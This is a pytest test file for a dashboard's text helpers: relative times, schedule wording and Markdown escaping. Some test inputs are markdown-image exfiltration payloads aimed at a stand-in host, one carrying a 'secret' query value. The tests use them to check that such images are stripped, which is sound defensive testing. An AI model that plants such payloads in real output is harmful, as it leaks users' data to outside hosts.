"""Numbers, times and other people's words as the pages show them."""

from datetime import UTC, datetime, timedelta

import pytest

from dashboard.shapes import Schedule
from dashboard.wording import from_now, harmless_markdown, literal, plain, timing

NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("seconds", "words"),
    [(0, "now"), (5, "in 5 s"), (300, "in 5 min"), (-7200, "2 h ago"), (3 * 86400, "in 3 d"), (-90, "2 min ago")],
)
def test_a_moment_is_told_from_now(seconds: int, words: str) -> None:
    assert from_now(NOW + timedelta(seconds=seconds), now=NOW) == words


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"every": 60}, "every 1 min"),
        ({"every": 7200}, "every 2 h"),
        ({"every": 90}, "every 90 s"),
        ({"cron": "0 7 * * 1-5", "timezone": "Europe/Zurich"}, "cron 0 7 * * 1-5 (Europe/Zurich)"),
        ({"at": "2026-12-01T07:00:00", "timezone": "UTC"}, "once at 2026-12-01 07:00 (UTC)"),
        ({"at": "2026-12-01T07:00:00Z"}, "once at 2026-12-01 07:00:00 UTC"),
    ],
)
def test_a_schedule_says_when(fields: dict[str, object], words: str) -> None:
    assert timing(Schedule.model_validate({"id": "s1", "name": "n", **fields})) == words


def test_words_of_others_are_no_markdown() -> None:
    assert literal("**bold** $x$ :red[a]") == r"\*\*bold\*\* \$x\$ \:red\[a\]"


def test_a_label_has_no_marks_at_all() -> None:
    assert plain("topic (required) **![x](http://evil.example)") == "topic (required)     x (http //evil.example)"


def test_a_picture_in_an_answer_is_not_fetched() -> None:
    for text in ("![x](https://evil.example/?q=secret)", "![x][ref]\n\n[ref]: https://evil.example", "`a` ![x](y)"):
        assert "![" not in harmless_markdown(text)


def test_dollars_are_no_formula_and_code_stays_as_it_is() -> None:
    assert harmless_markdown("$5 and `$HOME`\n```sh\necho $PATH\n```\n$6") == (
        "\\$5 and `$HOME`\n```sh\necho $PATH\n```\n\\$6"
    )
